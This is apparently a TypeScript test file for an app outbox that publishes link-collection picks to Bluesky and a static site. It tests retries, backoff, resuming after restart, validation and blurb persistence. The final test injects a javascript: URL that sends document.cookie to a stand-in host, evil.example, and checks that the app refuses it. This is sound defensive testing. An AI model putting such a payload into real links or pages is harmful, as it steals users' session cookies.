// The outbox against a real Dexie (fake-indexeddb) and a real collection document; only the
// DesktopApi seam is a stand-in (see outbox-testing.ts).
import { describe, expect, it } from 'vitest';
import { IDBFactory, IDBKeyRange } from 'fake-indexeddb';
import * as Y from 'yjs';
import {
  getPublication,
  getPublicationBlurb,
  maps,
  materializeAll,
  recordPublication,
} from '../../shared/collection';
import { keptBlurbs, siteChanges, startingBlurb } from '../../shared/publish';
import { CollectionDb } from './db';
import { LocalLibrary } from './library';
import { InlineSearch } from './search-client';
import { SETTINGS, addTwo, me, openLibrary, outboxFor, scriptedApi } from './outbox-testing';

describe('Outbox', () => {
  it('writes records and jobs before the first call, then settles what came back', async () => {
    const lib = await openLibrary(new IDBFactory());
    const items = addTwo(lib);
    let seenBeforeCall: unknown[] = [];
    const { api } = scriptedApi(['ok']);
    const outbox = outboxFor(lib, {
      ...api,
      publishBluesky: async (job, settings) => {
        seenBeforeCall = [
          ...items.map((i) => getPublication(lib.doc, i.id, 'bluesky')?.state),
          (await lib.db.outbox.toArray()).length,
        ];
        return api.publishBluesky(job, settings);
      },
    });
    await outbox.start();
    const plan = await outbox.publish({ items, bluesky: true, site: false });
    expect(plan.problems).toEqual([]);
    await outbox.runDue();
    expect(seenBeforeCall).toEqual(['publishing', 'publishing', 1]);
    for (const item of items) {
      const record = getPublication(lib.doc, item.id, 'bluesky');
      expect(record?.state).toBe('published');
      expect(record?.url).toMatch(/^https:\/\/bsky\.app\/profile\//);
    }
    expect(outbox.list()[0]?.state).toBe('done');
  });

  it('resumes a job that was running when the app quit, with the same keys', async () => {
    const factory = new IDBFactory();
    const first = await openLibrary(factory);
    const items = addTwo(first);
    const hanging = scriptedApi(['hang']);
    const before = outboxFor(first, hanging.api);
    await before.start();
    await before.publish({ items, bluesky: true, site: false });
    await hanging.hung;
    expect(before.list()[0]?.state).toBe('running');
    // Quit: nothing more happens in this window.
    before.stop();
    await first.close();

    const again = await openLibrary(factory);
    const working = scriptedApi(['ok']);
    const after = outboxFor(again, working.api);
    await after.start();
    await after.runDue();
    expect(after.list()[0]?.state).toBe('done');
    expect(working.blueskyCalls).toHaveLength(1);
    expect(working.blueskyCalls[0]?.posts.map((p) => p.rkey)).toEqual(
      hanging.blueskyCalls[0]?.posts.map((p) => p.rkey),
    );
    for (const item of items)
      expect(getPublication(again.doc, item.id, 'bluesky')?.state).toBe('published');
    await again.close();
  });

  it('waits for the document to replay before it resumes or settles anything', async () => {
    const factory = new IDBFactory();
    const first = await openLibrary(factory);
    const items = addTwo(first);
    const hanging = scriptedApi(['hang']);
    const before = outboxFor(first, hanging.api);
    await before.start();
    await before.publish({ items, bluesky: true, site: false });
    await hanging.hung;
    before.stop();
    await first.close();

    // Reopen the way the window does: rows first, the document replaying in the background.
    const again = LocalLibrary.create({
      collectionId: 'c1',
      me,
      db: new CollectionDb('c1', factory, IDBKeyRange),
      search: new InlineSearch(),
    });
    const working = scriptedApi(['ok']);
    // Tells when the outbox starts waiting for the document, and how many posts it made before.
    let waited!: (postsBefore: number) => void;
    const waiting = new Promise<number>((resolve) => (waited = resolve));
    const ready: PromiseLike<void> = {
      then: (onReady, onFailed) => {
        waited(working.blueskyCalls.length);
        return again.whenReady.then(onReady, onFailed);
      },
    };
    const after = outboxFor(again, working.api, { ready });
    const started = after.start();
    const postsBefore = await Promise.race([
      waiting,
      started.then(() => {
        throw new Error('the outbox started without waiting for the document');
      }),
    ]);
    expect(postsBefore).toBe(0);
    expect(working.blueskyCalls).toHaveLength(0);
    expect(after.list()).toEqual([]);
    await again.load();
    await started;
    await after.runDue();
    expect(working.blueskyCalls).toHaveLength(1);
    for (const item of items)
      expect(getPublication(again.doc, item.id, 'bluesky')?.state).toBe('published');
    await again.close();
  });

  it('backs off exponentially, gives up after the last attempt, and Retry reuses the job', async () => {
    const lib = await openLibrary(new IDBFactory());
    const items = addTwo(lib);
    let clock = 1_000_000;
    const { api, blueskyCalls } = scriptedApi(['fail', 'fail', 'fail', 'ok']);
    const outbox = outboxFor(lib, api, {
      now: () => clock,
      backoff: { baseMs: 1000, maxMs: 60_000, maxAttempts: 3 },
    });
    await outbox.start();
    await outbox.publish({ items, bluesky: true, site: false });
    await outbox.runDue();
    let row = outbox.list()[0]!;
    expect(row).toMatchObject({ state: 'queued', attempts: 1, error: 'the PDS answered 502' });
    expect(row.nextAttemptAt).toBe(clock + 1000);
    // Still "publishing" while a retry is due, so another press of Publish skips these picks.
    expect(getPublication(lib.doc, items[0]!.id, 'bluesky')?.state).toBe('publishing');
    const skippedPlan = await outbox.publish({
      items: lib.store.all(),
      bluesky: true,
      site: false,
    });
    expect(skippedPlan.queued).toEqual([]);
    expect(skippedPlan.skipped.map((s) => s.state)).toEqual(['publishing', 'publishing']);

    await outbox.runDue(); // not due yet
    expect(blueskyCalls).toHaveLength(1);
    clock += 1000;
    await outbox.runDue();
    row = outbox.list()[0]!;
    expect(row).toMatchObject({ state: 'queued', attempts: 2 });
    expect(row.nextAttemptAt).toBe(clock + 2000);
    clock += 2000;
    await outbox.runDue();
    row = outbox.list()[0]!;
    expect(row).toMatchObject({ state: 'failed', attempts: 3, error: 'the PDS answered 502' });
    expect(getPublication(lib.doc, items[0]!.id, 'bluesky')).toMatchObject({
      state: 'failed',
      error: 'the PDS answered 502',
    });

    await outbox.retry(row.id);
    expect(getPublication(lib.doc, items[0]!.id, 'bluesky')?.state).toBe('publishing');
    await outbox.runDue();
    expect(outbox.list()[0]?.state).toBe('done');
    const keys = blueskyCalls.map((job) => job.posts.map((p) => p.rkey).join());
    expect(new Set(keys).size).toBe(1);
    expect(blueskyCalls.map((job) => job.createdAt)).toEqual(
      Array(4).fill(blueskyCalls[0]!.createdAt),
    );
  });

  it('runs a job that waits for its next try at once on Retry now', async () => {
    const lib = await openLibrary(new IDBFactory());
    const items = addTwo(lib);
    const clock = 1_000_000;
    const { api, blueskyCalls } = scriptedApi(['fail', 'ok']);
    const outbox = outboxFor(lib, api, { now: () => clock });
    await outbox.start();
    await outbox.publish({ items, bluesky: true, site: false });
    await outbox.runDue();
    const waiting = outbox.list()[0]!;
    expect(waiting).toMatchObject({ state: 'queued', attempts: 1 });
    await outbox.retry(waiting.id);
    await outbox.runDue();
    expect(outbox.list()[0]).toMatchObject({ id: waiting.id, state: 'done' });
    expect(blueskyCalls.map((job) => job.posts[0]?.rkey)).toEqual([
      blueskyCalls[0]?.posts[0]?.rkey,
      blueskyCalls[0]?.posts[0]?.rkey,
    ]);
  });

  it('stops at once on a failure a retry cannot fix', async () => {
    const lib = await openLibrary(new IDBFactory());
    const items = addTwo(lib);
    const refused = Object.assign(new Error('Invalid arguments for publishBluesky'), {
      name: 'InvalidArguments',
    });
    const { api, blueskyCalls } = scriptedApi([refused]);
    const outbox = outboxFor(lib, api);
    await outbox.start();
    await outbox.publish({ items, bluesky: true, site: false });
    await outbox.runDue();
    expect(outbox.list()[0]).toMatchObject({ state: 'failed', attempts: 1 });
    expect(blueskyCalls).toHaveLength(1);
  });

  it('names each problem before anything is written', async () => {
    const lib = await openLibrary(new IDBFactory());
    lib.addLinks([
      { url: 'https://c.example/untitled' },
      { url: 'https://d.example/long', title: 'Long' },
    ]);
    const items = lib.store.all();
    const { api, blueskyCalls } = scriptedApi([]);
    const outbox = outboxFor(lib, api, { settings: async () => ({ ...SETTINGS, site: null }) });
    await outbox.start();
    const long = items.find((i) => i.title === 'Long')!;
    const plan = await outbox.publish({
      items,
      bluesky: true,
      site: true,
      blurbs: { [long.id]: 'x'.repeat(301) },
    });
    expect(plan.queued).toEqual([]);
    // General problems first, then one entry per item, each naming it.
    expect(plan.problems[0]).toMatchObject({ title: 'Site' });
    expect(plan.problems[0]?.problems[0]).toContain('Settings › Site');
    const byItem = new Map(plan.problems.map((p) => [p.title, p.problems]));
    expect(byItem.size).toBe(3);
    expect(byItem.get('https://c.example/untitled')).toEqual([
      'the link has no title; add one before publishing',
    ]);
    expect(byItem.get('Long')).toEqual([
      'the post text is 301 characters long; Bluesky allows 300',
    ]);
    expect(await lib.db.outbox.count()).toBe(0);
    for (const item of items) expect(getPublication(lib.doc, item.id, 'bluesky')).toBeNull();
    expect(blueskyCalls).toHaveLength(0);
  });

  it('builds the site from every site pick and records where it went', async () => {
    const lib = await openLibrary(new IDBFactory());
    const [first, second] = addTwo(lib);
    const { api, siteCalls } = scriptedApi(['ok', 'ok']);
    const outbox = outboxFor(lib, api);
    await outbox.start();
    await outbox.publish({ items: [first!], bluesky: false, site: true });
    await outbox.runDue();
    await outbox.publish({
      items: lib.store.all(),
      bluesky: false,
      site: true,
      blurbs: { [second!.id]: 'Worth it for the diagrams.' },
    });
    await outbox.runDue();
    expect(siteCalls[1]?.find((p) => p.item.id === second!.id)?.blurb).toBe(
      'Worth it for the diagrams.',
    );
    expect(siteCalls.map((picks) => picks.map((p) => p.item.id).sort())).toEqual([
      [first!.id],
      [first!.id, second!.id].sort(),
    ]);
    expect(outbox.list().map((r) => r.job.kind === 'site' && r.job.entries.length)).toEqual([1, 1]);
    expect(getPublication(lib.doc, second!.id, 'site')).toMatchObject({
      state: 'published',
      url: 'https://links.example/',
      ref: 'abc123',
    });
  });

  it('keeps the blurb a curator typed through a failed first attempt, Retry, a restart and another device', async () => {
    const factory = new IDBFactory();
    const lib = await openLibrary(factory);
    const [raft] = addTwo(lib);
    const { api, siteCalls, blueskyCalls } = scriptedApi(['fail', 'fail', 'ok', 'ok']);
    const outbox = outboxFor(lib, api, { backoff: { maxAttempts: 1 } });
    await outbox.start();
    const typed = 'Worth it for the diagrams.';
    await outbox.publish({
      items: [raft!],
      bluesky: true,
      site: true,
      blurbs: { [raft!.id]: typed },
    });
    await outbox.runDue();
    expect(outbox.list().map((row) => row.state)).toEqual(['failed', 'failed']);
    for (const row of outbox.list()) await outbox.retry(row.id);
    await outbox.runDue();
    // The site went out before the post existed, so it is rebuilt once more to link to the post.
    expect(outbox.list().map((row) => [row.job.kind, row.state])).toEqual([
      ['site', 'done'],
      ['site', 'done'],
      ['bluesky', 'done'],
    ]);
    expect(outbox.list()[0]?.job).toMatchObject({ action: 'update' });
    // The retried site build says what the curator typed, not the default.
    expect(siteCalls.map((picks) => picks.find((p) => p.item.id === raft!.id)?.blurb)).toEqual([
      typed,
      typed,
      typed,
    ]);
    expect(blueskyCalls.map((job) => job.posts[0]?.text)).toEqual([typed, typed]);
    const update = Y.encodeStateAsUpdate(lib.doc);
    outbox.stop();
    await lib.close();

    // After a restart, and on another device, the Publish dialog starts from the same words.
    const again = await openLibrary(factory);
    const row = again.store.get(raft!.id)!;
    expect(startingBlurb(row, keptBlurbs(again.doc))).toBe(typed);
    const elsewhere = new Y.Doc();
    Y.applyUpdate(elsewhere, update);
    for (const target of ['bluesky', 'site'] as const)
      expect(getPublicationBlurb(elsewhere, raft!.id, target)).toBe(typed);
    await again.close();
  });

  it("sends another maintainer's picks to the site flagged, and never a link that is not http(s)", async () => {
    const lib = await openLibrary(new IDBFactory());
    const [raft] = addTwo(lib);
    // A co-maintainer writes an item the app would never make, and marks it published.
    const mallory = new Y.Doc();
    Y.applyUpdate(mallory, Y.encodeStateAsUpdate(lib.doc));
    const evil = 'evilevilevilevilevil';
    const url = "javascript:fetch('https://evil.example/'+document.cookie)//https://example.com/";
    mallory.transact(() => {
      const items = maps(mallory).items as Y.Map<unknown>;
      items.set(`${evil}/url`, url);
      items.set(`${evil}/title`, 'Totally harmless');
      items.set(`${evil}/addedAt`, 1);
    });
    recordPublication(
      mallory,
      evil,
      { target: 'site', key: `x-${evil.slice(0, 8)}`, by: 'me', at: 2, state: 'published' },
      { memberId: 'mallory' },
    );
    Y.applyUpdate(lib.doc, Y.encodeStateAsUpdate(mallory));

    // Reading the document never makes a row of it, so nothing downstream can pick it up ...
    expect(lib.store.get(evil)).toBeUndefined();
    expect(materializeAll(lib.doc, 'me').some((r) => r.id === evil)).toBe(false);

    const { api, siteCalls } = scriptedApi(['ok']);
    const outbox = outboxFor(lib, api);
    await outbox.start();
    // ... and a press still refuses such a link on its own, with the reason.
    const refused = await outbox.publish({
      items: [{ ...raft!, id: evil, url, title: 'Totally harmless' }],
      bluesky: true,
      site: true,
    });
    expect(refused.problems.flatMap((p) => p.problems)).toContain(
      'the link is a javascript: address; only http(s) links are published',
    );
    await outbox.publish({ items: [raft!], bluesky: false, site: true });
    await outbox.runDue();
    const sent = siteCalls[0]!;
    expect(sent.map((p) => [p.item.id, p.pickedHere])).toEqual([[raft!.id, true]]);
    const changes = siteChanges(null, sent);
    expect(changes.changes.map((c) => [c.title, c.pickedHere])).toEqual([['Raft', true]]);
  });
});
